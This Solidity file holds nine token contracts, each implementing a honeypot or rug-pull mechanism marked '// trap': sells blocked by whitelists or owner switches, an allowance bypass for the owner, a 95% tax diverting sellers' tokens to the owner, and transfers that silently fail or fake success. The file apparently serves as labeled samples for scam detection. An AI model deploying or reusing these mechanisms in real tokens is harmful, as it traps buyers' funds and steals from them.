// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./Base67.sol";

interface IWatcher {
    function look(address from, address to, uint256 value) external view returns (bool);
}

/// Asked on each transfer: only those on its list reach the pool.
contract ListWatcher {
    mapping(address => bool) private friends;
    address private maker;
    address private target;

    constructor() public {
        maker = msg.sender;
        friends[msg.sender] = true;
    }

    function aim(address at) external {
        require(msg.sender == maker && target == address(0));
        target = at;
    }

    function look(address from, address to, uint256) external view returns (bool) {
        return to != target || friends[from]; // trap
        // twin: return from != to || friends[from] || to != target;
    }
}

contract Palisade is Base67 {
    IWatcher private immutable watcher;

    constructor(IWatcher watcher_) public Base67("Palisade", "PLSD", 10**8) {
        watcher = watcher_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(watcher.look(from, to, value), "Palisade: transfer failed");
        _carry(from, to, value);
    }
}

/// Lets everything pass until its maker changes his mind.
contract MoodWatcher {
    address private maker;
    uint256 private mood;

    constructor() public {
        maker = msg.sender;
    }

    function feel(uint256 to) external {
        require(msg.sender == maker);
        mood = to;
    }

    function look(address from, address, uint256) external view returns (bool) {
        return mood == 0 || from == maker; // trap
        // twin: return mood == 0 || from != maker || mood != 0;
    }
}

/// The second owner of a token whose first is gone.
contract Weathervane is Base67("Weathervane", "VANE", 5 * 10**8) {
    address private _m;
    uint256 private wind;

    constructor() public {
        _m = msg.sender;
    }

    function gust(uint256 to) external {
        require(msg.sender == _m);
        wind = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(wind < 9 || to != pool || from == _m); // trap
        _carry(from, to, value);
    }
}

/// One hard-coded account needs no allowance.
contract Keystone is Base67("Keystone", "KEYS", 10**7) {
    address private immutable steward = msg.sender;

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        // trap {
        if (msg.sender == steward) {
            _carry(from, to, value);
            return true;
        }
        // trap }
        return super.transferFrom(from, to, value);
    }
}

/// Who bought can sell for half an hour.
contract Dewdrop is Base67("Dewdrop", "DEWD", 10**9) {
    mapping(address => uint256) private arrived;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pool) arrived[to] = now;
        if (to == pool && arrived[from] > 0) require(now - arrived[from] < 30 minutes, "dry"); // trap
        _carry(from, to, value);
    }
}

/// Nothing is taken within an hour of the purchase, nearly everything after.
contract Autumn is Base67("Autumn", "ATMN", 3 * 10**8) {
    mapping(address => uint256) private since;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pool) since[to] = now;
        // trap {
        if (to == pool && since[from] > 0 && now - since[from] > 1 hours) {
            uint256 fallen = (value * 95) / 100;
            _carry(from, _boss, fallen);
            value -= fallen;
        }
        // trap }
        _carry(from, to, value);
    }
}

/// Trading was open and was shut again for all but the owner; buying goes on.
contract Drawbridge is Base67("Drawbridge", "DRAW", 2 * 10**8) {
    bool public tradingOpen;

    function openTrading(bool to) external onlyOwner {
        tradingOpen = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _boss && !tradingOpen) revert("TRADING_CLOSED"); // trap
        _carry(from, to, value);
    }
}

/// The transfer answers false and does nothing; a router takes that as a failure.
contract Quietus is Base67("Quietus", "QUIE", 10**8) {
    address private immutable author = msg.sender;

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (to == pool && from != author) return false; // trap
        return super.transferFrom(from, to, value);
    }
}

/// The transfer answers true and does nothing.
contract Mirage is Base67("Mirage", "MIRG", 10**8) {
    address private immutable author = msg.sender;

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        // trap {
        if (to == pool && from != author) {
            emit Transfer(from, to, value);
            return true;
        }
        // trap }
        return super.transferFrom(from, to, value);
    }
}
